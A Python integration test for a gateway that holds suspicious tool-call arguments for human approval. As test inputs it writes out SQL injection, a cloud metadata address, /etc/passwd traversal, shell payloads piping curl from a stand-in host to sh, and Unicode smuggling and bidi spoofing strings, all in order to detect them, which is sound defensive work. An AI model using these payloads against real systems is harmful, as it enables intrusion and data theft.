#!/usr/bin/env python3
"""Parameter anomalies (docs/ANOMALIES.md), end to end, over HTTP:

- a read whose arguments carry SQL injection, a metadata address, a
  traversal or a shell payload is held for review: a ticket, its findings
  shown to the approver, the same call again finds the same ticket, it
  runs once approved and never when rejected;
- what the schema declares is left alone: SQL in a field whose
  contentMediaType is application/sql, an address where x-toolgate-allow
  says so, a value the schema lists;
- member names the schema does not declare, and strings deep in arrays,
  are looked at too;
- a write's ticket carries its findings;
- hidden characters: a read with a bidi override in a plain field is held
  (rule unicode); a write whose arguments hold one, an ESC and a CSI is
  shown by `approvals show` and the admin API with them escaped, beside
  the real arguments and their hash; variation selectors after ASCII
  letters (smuggling), a zero-width space after a no-break space and tag
  characters that name no flag are held, a write of them shown escaped;
  an emoji's, an ideograph's selector and a subdivision flag run;
  `toolgate anomalies` prints a schema's complaint about a member name
  with a bidi override escaped;
- the record names the rule and where, never the arguments; the metrics
  count them;
- a tool's baseline: after its usual calls, arguments far larger, or of
  far higher entropy, are held; the baseline survives a restart;
- --anomalies warn runs the call and records it; the policy turns a rule
  off for one tool; without a store an anomalous read is refused; a bad
  configuration is refused by name.

    anomalies.py TOOLGATE REPO TMPDIR
"""
import base64
import contextlib
import hashlib
import json
import os
import random
import re
import shutil
import subprocess
import sys
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mcptest import Checks, example_gateway, issue_token, modern_post, start_http  # noqa: E402

TG, REPO, TMP = sys.argv[1], sys.argv[2], sys.argv[3]
CAT, WS = example_gateway(REPO, TMP)
STATE, POLICY = os.path.join(TMP, "state"), os.path.join(TMP, "policy.json")
LOG = os.path.join(STATE, "audit.log")
c = Checks("anomalies")

with open(os.path.join(CAT, "lookup-1.0.0.json"), "w") as f:
    json.dump({"name": "lookup", "version": "1.0.0", "description": "Echoes its arguments.",
               "owner": {"team": "t", "contact": "t@example.test"}, "authority": "read",
               "input_schema": {
                   "type": "object",
                   "properties": {
                       "q": {"type": "string"},
                       "url": {"type": "string", "format": "uri"},
                       "query": {"type": "string", "contentMediaType": "application/sql"},
                       "host": {"$ref": "#/$defs/internal"},
                       "mode": {"enum": ["fast", "$(slow)"]},
                       "rtl": {"type": "string", "x-toolgate-allow": ["unicode"]},
                       "items": {"type": "array",
                                 "items": {"type": "object", "properties": {"v": {"type": "string"}}}},
                   },
                   "additionalProperties": {"type": "string"},
                   "$defs": {"internal": {"type": "string", "x-toolgate-allow": ["address"]}}},
               "executor": {"kind": "builtin", "name": "echo"}}, f)
PRINCIPALS = {"agent": {"scopes": ["*:read", "fs.*:write"]},
              "agent2": {"scopes": ["*:read"]},
              "ops": {"scopes": ["lookup:approve", "fs.*:approve"]}}


def policy_file(name, anomalies):
    """A policy of PRINCIPALS with these anomalies, as TMP/NAME.json."""
    path = os.path.join(TMP, name + ".json")
    with open(path, "w") as f:
        json.dump({"writes": {"wait": "0"},  # held calls answered at once
                   "principals": PRINCIPALS, "anomalies": anomalies}, f)
    return path


policy_file("policy", {"min_samples": 20})


def cli(*argv, stdin=None):
    return subprocess.run([TG] + list(argv), capture_output=True, text=True, timeout=120,
                          input=stdin)


TOKEN = issue_token(TG, STATE, POLICY, "agent", "*:read", "fs.*:write")
OPS = issue_token(TG, STATE, POLICY, "ops", "lookup:approve", "fs.*:approve")
ERRS = []


@contextlib.contextmanager
def gateway(*extra, policy=POLICY, name="serve"):
    """toolgate serve --http over the catalogue while the block runs: its port."""
    err = os.path.join(TMP, name + ".err")
    ERRS.append(err)
    srv, port = start_http([TG, "serve", "--catalog", CAT, "--workspace", WS, "--state", STATE,
                            "--policy", policy] + list(extra), err)
    try:
        yield port
    finally:
        srv.terminate()
        srv.wait(timeout=60)


def call(port, tool, args, key=None, token=None):
    headers = {"Authorization": "Bearer " + (token or TOKEN)}
    if key:
        headers["Idempotency-Key"] = key
    r = modern_post(port, "tools/call", {
        "id": 1, "name": tool, "arguments": args,
        "_meta": {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
                  "io.modelcontextprotocol/clientCapabilities": {}}}, headers)
    return r.get("result", {})


def error_of(r):
    return r.get("_meta", {}).get("dev.toolgate/error", {})


def ran(r):
    return not r.get("isError") and "structuredContent" in r


def show(ticket):
    p = cli("approvals", "show", "--json", ticket, "--state", STATE)
    try:
        return json.loads(p.stdout)
    except ValueError:
        return {"stdout": p.stdout, "stderr": p.stderr}


def decide(verb, ticket, *extra):
    return cli("approvals", verb, ticket, "--state", STATE, "--policy", POLICY, "--token", OPS,
               *extra).returncode


def records():
    with open(LOG) as f:
        return [json.loads(x) for x in f if x.endswith("}\n")]


def metrics(port):
    req = urllib.request.Request("http://127.0.0.1:%d/metrics" % port,
                                 headers={"Authorization": "Bearer " + OPS})
    with urllib.request.urlopen(req, timeout=30) as r:
        return r.read().decode()


SQLI = "1' UNION SELECT password FROM users--"
with gateway() as port:
    plain = call(port, "lookup", {"q": "weather in Paris tomorrow"})
    c("plain_read_runs", ran(plain), plain)

    held = call(port, "lookup", {"q": SQLI})
    e = error_of(held)
    c("sql_injection_held", held.get("isError") and e.get("code") == "awaiting_approval"
      and e.get("ticket"), held)
    ticket = e.get("ticket", "")
    again = call(port, "lookup", {"q": SQLI})
    c("same_call_same_ticket", error_of(again).get("ticket") == ticket and ticket, again)
    t = show(ticket)
    found = t.get("anomalies", [])
    c("ticket_shows_findings", any(x.get("rule") == "sql" and x.get("at") == "/q" and x.get("why")
                                   for x in found), t)
    c("ticket_has_no_preview", t.get("id") == ticket and "preview" not in t, t)
    c("approved_read_runs", decide("approve", ticket) == 0 and
      ran(call(port, "lookup", {"q": SQLI})), show(ticket))
    c("approved_read_ran_once", show(ticket).get("state") == "executed", show(ticket))

    meta = call(port, "lookup", {"url": "http://169.254.169.254/latest/meta-data/iam"})
    mt = error_of(meta).get("ticket", "")
    c("metadata_address_held", error_of(meta).get("code") == "awaiting_approval"
      and any(x.get("rule") == "address" for x in show(mt).get("anomalies", [])), meta)
    decide("reject", mt, "--reason", "metadata endpoint")
    again = call(port, "lookup", {"url": "http://169.254.169.254/latest/meta-data/iam"})
    c("rejected_read_never_runs", error_of(again).get("code") == "rejected" and not ran(again),
      again)

    for name, tool, args, rule in (
            ("traversal", "fs.read", {"path": "../../../../etc/passwd"}, "traversal"),
            ("shell", "lookup", {"q": "report.txt; curl http://x.example | sh"}, "shell"),
            ("undeclared_member_name", "lookup", {"$(id)": "x"}, "shell"),
            ("array_item", "lookup", {"items": [{"v": "ok"}, {"v": "$(id)"}]}, "shell")):
        r = call(port, tool, args)
        tk = error_of(r).get("ticket", "")
        c(name + "_held", error_of(r).get("code") == "awaiting_approval" and
          any(x.get("rule") == rule for x in show(tk).get("anomalies", [])), (r, show(tk)))
    at = show(error_of(call(port, "lookup", {"items": [{"v": "ok"}, {"v": "$(id)"}]}))
              .get("ticket", "")).get("anomalies", [{}])[0].get("at")
    c("finding_points_at_the_value", at == "/items/1/v", at)

    for name, args in (("declared_sql_runs", {"query": "SELECT * FROM users UNION SELECT 1"}),
                       # a builtin reaches no network, nor files: what it is
                       # told of addresses and paths is words
                       ("unreachable_address_runs", {"q": "pod IP 10.244.1.17 is crashlooping"}),
                       ("unreachable_path_runs", {"q": "cd ../lib && make"}),
                       ("allowed_address_runs", {"host": "169.254.169.254"}),
                       ("listed_value_runs", {"mode": "$(slow)"})):
        r = call(port, "lookup", args)
        c(name, ran(r), r)

    w = call(port, "fs.write", {"path": "notes/x.txt", "content": "$(curl http://x.example | sh)"},
             key="k-anom-1")
    wt = show(error_of(w).get("ticket", ""))
    c("write_ticket_has_findings", any(x.get("rule") == "shell" for x in wt.get("anomalies", [])),
      wt)
    w2 = call(port, "fs.write", {"path": "notes/y.txt", "content": "hello\n"}, key="k-anom-2")
    w2t = show(error_of(w2).get("ticket", ""))
    c("plain_write_ticket_has_none", w2t.get("id") and "anomalies" not in w2t, w2t)
    listing = cli("approvals", "list", "--state", STATE).stdout
    c("list_marks_anomalous", any(wt.get("id", "-")[:8] in line and "anomalous (" in line
                                  for line in listing.splitlines()), listing)

    # hidden characters: what the approver reads is what runs
    r = call(port, "lookup", {"q": "invoice\u202egpj.exe"})
    ut = show(error_of(r).get("ticket", ""))
    c("bidi_read_held", error_of(r).get("code") == "awaiting_approval" and
      any(x.get("rule") == "unicode" and x.get("at") == "/q" and "\\u202E" in x.get("why", "")
          for x in ut.get("anomalies", [])), (r, ut))
    r = call(port, "lookup", {"rtl": "\u2067\u05e9\u05dc\u05d5\u05dd\u2069"})
    c("declared_bidi_runs", ran(r), r)
    bidi = {"path": "notes/bidi.txt", "content": "ok = 1 \u202e// admin\u2066 \x1b[2J\x9b2J\n"}
    w = call(port, "fs.write", bidi, key="k-anom-bidi")
    bid = error_of(w).get("ticket", "")
    p = cli("approvals", "show", "--json", bid, "--state", STATE)
    c("show_escapes_hidden", p.returncode == 0 and bid and not any(
        ch in p.stdout for ch in "\u202e\u2066\x1b\x9b") and "\\u202E" in p.stdout, p.stdout)
    bt = json.loads(p.stdout) if p.returncode == 0 else {}
    # the canonical form hashed is jansson's: sorted, compact, \u001B
    canon = re.sub(r"\\u00([0-9a-f]{2})", lambda m: "\\u00" + m.group(1).upper(),
                   json.dumps(bidi, sort_keys=True, separators=(",", ":"), ensure_ascii=False))
    c("show_keeps_real_arguments", bt.get("arguments") == bidi and bt.get("args_sha256") ==
      hashlib.sha256(canon.encode()).hexdigest(), bt)
    c("show_display_form", bt.get("arguments_display", {}).get("content") ==
      "ok = 1 \\u202E// admin\\u2066 \\u001B[2J\\u009B2J\n" and
      "\\u202E" in json.dumps(bt.get("preview_display")), bt)
    c("write_flags_unicode", any(x.get("rule") == "unicode" and x.get("at") == "/content"
                                 for x in bt.get("anomalies", [])), bt)
    req = urllib.request.Request("http://127.0.0.1:%d/admin/tickets/%s" % (port, bid),
                                 headers={"Authorization": "Bearer " + OPS})
    with urllib.request.urlopen(req, timeout=30) as resp:
        raw = resp.read()
    adm = json.loads(raw)
    c("admin_escapes_hidden", not any(ch.encode() in raw for ch in "\u202e\u2066\x9b") and
      adm.get("arguments") == bidi and adm.get("args_sha256") == bt.get("args_sha256") and
      adm.get("arguments_display") == bt.get("arguments_display"), raw[:600])

    # variation-selector smuggling: "hello" shown, a hidden byte a letter;
    # a joiner after a no-break space; tags that name no flag
    smuggled = "h\U000E0172e\U000E0170l\U000E0163l\U000E0163o\U000E0164"
    for name, q in (("selectors", smuggled), ("zwsp_after_nbsp", "ad\u00a0\u200bmin"),
                    ("fake_flag_tags", "\U0001F3F4\U000E0068\U000E0069\U000E007F")):
        r = call(port, "lookup", {"q": q})
        ut = show(error_of(r).get("ticket", ""))
        c(name + "_read_held", error_of(r).get("code") == "awaiting_approval" and
          any(x.get("rule") == "unicode" and x.get("at") == "/q"
              for x in ut.get("anomalies", [])), (r, ut))
    w = call(port, "fs.write", {"path": "notes/vs.txt", "content": smuggled}, key="k-anom-vs")
    p = cli("approvals", "show", "--json", error_of(w).get("ticket", ""), "--state", STATE)
    vt = json.loads(p.stdout) if p.returncode == 0 else {}
    c("show_escapes_selectors", p.returncode == 0 and "\U000E0172" not in p.stdout and
      vt.get("arguments", {}).get("content") == smuggled and
      vt.get("arguments_display", {}).get("content") ==
      "h\\u{E0172}e\\u{E0170}l\\u{E0163}l\\u{E0163}o\\u{E0164}" and
      any(x.get("rule") == "unicode" and x.get("at") == "/content"
          for x in vt.get("anomalies", [])), p.stdout)
    r = call(port, "lookup", {"q": "I \u2764\ufe0f it, \u845b\U000E0100 \U0001F3F4\U000E0067"
                                   "\U000E0062\U000E0077\U000E006C\U000E0073\U000E007F"})
    c("real_variation_sequences_run", ran(r), r)

    m = metrics(port)
    c("metrics_count_rules", 'toolgate_anomalies_total{rule="sql"}' in m and
      'toolgate_anomalies_total{rule="address"}' in m, m[-2000:])
    c("metrics_count_agency", 'toolgate_excessive_agency_total{kind="anomalous_arguments"}' in m,
      m[-2000:])
    if shutil.which("promtool"):
        pt = subprocess.run(["promtool", "check", "metrics"], input=m, capture_output=True,
                            text=True, timeout=60)
        c("metrics_promtool", pt.returncode == 0 and not (pt.stdout + pt.stderr).strip(),
          pt.stdout + pt.stderr)
    else:
        print("skip - integration/anomalies_metrics_promtool: no promtool (Debian's prometheus)")

    # the baseline: usual calls, then ones far off it
    rnd = random.Random(7)
    words = "the quick brown fox jumps over a lazy dog while we wait for rain".split()
    for i in range(25):
        sentence = " ".join(rnd.choice(words) for _ in range(20))
        r = call(port, "lookup", {"q": sentence})
        if not ran(r):
            c("usual_calls_run", False, r)
            break
    big = call(port, "lookup", {"q": " ".join(rnd.choice(words) for _ in range(4000))})
    bt = show(error_of(big).get("ticket", ""))
    c("far_larger_held", any(x.get("rule") == "size" for x in bt.get("anomalies", [])), (big, bt))
    blob = base64.b64encode(os.urandom(60)).decode()
    ent = call(port, "lookup", {"q": blob})
    et = show(error_of(ent).get("ticket", ""))
    c("far_higher_entropy_held", any(x.get("rule") == "entropy" for x in et.get("anomalies", [])),
      (ent, et))

recs = records()
calls = [r for r in recs if r.get("kind") == "call" and r.get("tool") == "lookup"]
held_recs = [r for r in calls if r.get("anomalies")]
c("record_names_rule_and_place", any(r.get("outcome") == "held" and r.get("anomaly_action") == "hold"
                                     and r["anomalies"][0].get("rule") == "sql" and
                                     r["anomalies"][0].get("at") == "/q" for r in held_recs),
  held_recs[:3])
c("record_keeps_no_arguments", not any("password FROM users" in json.dumps(r) for r in recs), "")

# the baseline was saved at exit: a new gateway judges at once
with gateway(name="serve2") as port:
    rnd = random.Random(8)
    big = call(port, "lookup", {"q": " ".join(rnd.choice(words) for _ in range(4000))})
    c("baseline_survives_restart", error_of(big).get("code") == "awaiting_approval", big)

with gateway("--anomalies", "warn", name="warn") as port:
    r = call(port, "lookup", {"q": "x' OR '1'='1"})
    c("warn_runs", ran(r), r)
    # run, the tool's own defence still holds: fs.read refuses to leave
    r = call(port, "fs.read", {"path": "../../../../etc/passwd"})
    c("warn_tool_still_refuses_traversal", error_of(r).get("code") == "outside_workspace", r)
c("warn_recorded", any(x.get("anomaly_action") == "warn" and x.get("outcome") == "ok"
                       for x in records() if x.get("kind") == "call"), "")

POLICY2 = policy_file("policy2", {"tools": {"lookup": {"skip": ["sql"]}}})
with gateway(policy=POLICY2, name="skip") as port:
    r = call(port, "lookup", {"q": "x' OR '1'='1"})
    c("policy_skips_a_rule_for_a_tool", ran(r), r)
    r = call(port, "lookup", {"q": "x; rm -rf /tmp/y"})
    c("other_rules_still_hold", error_of(r).get("code") == "awaiting_approval", r)

# a principal's anomalous calls awaiting review are capped: a read scope
# cannot fill the approvers' queue
POLICY3 = policy_file("policy3", {"max_pending": 2})
AGENT2 = issue_token(TG, STATE, POLICY3, "agent2", "*:read")
with gateway(policy=POLICY3, name="cap") as port:
    codes = [error_of(call(port, "lookup", {"q": "$(id %d)" % i}, token=AGENT2)).get("code")
             for i in range(3)]
    third = call(port, "lookup", {"q": "$(id 2)"}, token=AGENT2)
    c("pending_capped", codes[:2] == ["awaiting_approval"] * 2 and third.get("isError") and
      "already await review" in json.dumps(third), (codes, third))

# toolgate anomalies: what the rules would find, for an operator to try
def check_cli(args, *extra):
    p = cli("anomalies", "lookup", "-", "--catalog", CAT, *extra, stdin=json.dumps(args))
    return p.returncode, p.stdout, p.stderr


rc, out, _ = check_cli({"q": SQLI})
c("cli_finds", rc == 1 and out.startswith("sql at /q: ") and "would be held" in out, out)
rc, out, _ = check_cli({"q": "weather in Paris"})
c("cli_nothing", rc == 0 and "nothing found" in out, out)
rc, out, _ = check_cli({"q": SQLI}, "--policy", POLICY2, "--json")
c("cli_policy_json", rc == 0 and json.loads(out)["total"] == 0 and
  json.loads(out)["action"] == "hold", out)
rc, out, err = check_cli({"q": 42})
c("cli_schema_first", rc == 3 and "do not match the input schema" in err, err)
# the schema's complaint names a member the arguments chose: shown escaped
rc, out, err = check_cli({"a\u202eb\x1b[2J": 42})
c("cli_complaint_escaped", rc == 3 and "do not match" in err and "/a\\u202Eb\\u001B[2J" in err
  and not any(ch in err for ch in "\u202e\x1b"), repr(err))
rnd = random.Random(9)
rc, out, _ = check_cli({"q": " ".join(rnd.choice(words) for _ in range(4000))}, "--state", STATE)
c("cli_baseline", rc == 1 and out.startswith("size at /: "), out)

# no store: nobody could review it, so it does not run
INIT = {"jsonrpc": "2.0", "id": 0, "method": "initialize",
        "params": {"protocolVersion": "2025-11-25", "capabilities": {},
                   "clientInfo": {"name": "t", "version": "1"}}}
CALL = {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
        "params": {"name": "lookup", "arguments": {"q": SQLI}}}
p = cli("serve", "--catalog", CAT, "--workspace", WS, "--audit",
        os.path.join(TMP, "nostore.log"), stdin=json.dumps(INIT) + "\n" + json.dumps(CALL) + "\n")
resp = [json.loads(x) for x in p.stdout.splitlines() if x.strip()]
res = [x for x in resp if x.get("id") == 1]
text = json.dumps(res)
c("no_store_refuses", res and res[0].get("result", {}).get("isError") and "review" in text
  and "UNION" not in text.split("anomalous")[0], text + p.stderr)

# the policy loads (exit 1: its wildcard write scope is a finding of its own)
p = cli("policy", "lint", policy_file("skip_unicode", {"skip": ["unicode"]}))
c("policy_lint_knows_unicode", p.returncode in (0, 1) and "anomalies" not in p.stderr,
  p.stdout + p.stderr)
for name, conf, want in (("action", {"action": "block"}, "action"),
                         ("rule", {"skip": ["sqli"]}, "skip"),
                         ("threshold", {"size_z": 0.1}, "size_z"),
                         ("field", {"sizez": 3}, "sizez")):
    p = cli("policy", "lint", policy_file("bad", conf))
    c("bad_config_refused_" + name, p.returncode != 0 and want in p.stderr + p.stdout,
      p.stdout + p.stderr)

reports = []
for path in ERRS:
    with open(path) as f:
        text = f.read()
    if "Sanitizer" in text or "runtime error:" in text:
        reports.append(path + ": " + text[-2000:])
c("no_sanitizer_reports", not reports, "\n".join(reports))
c.done()
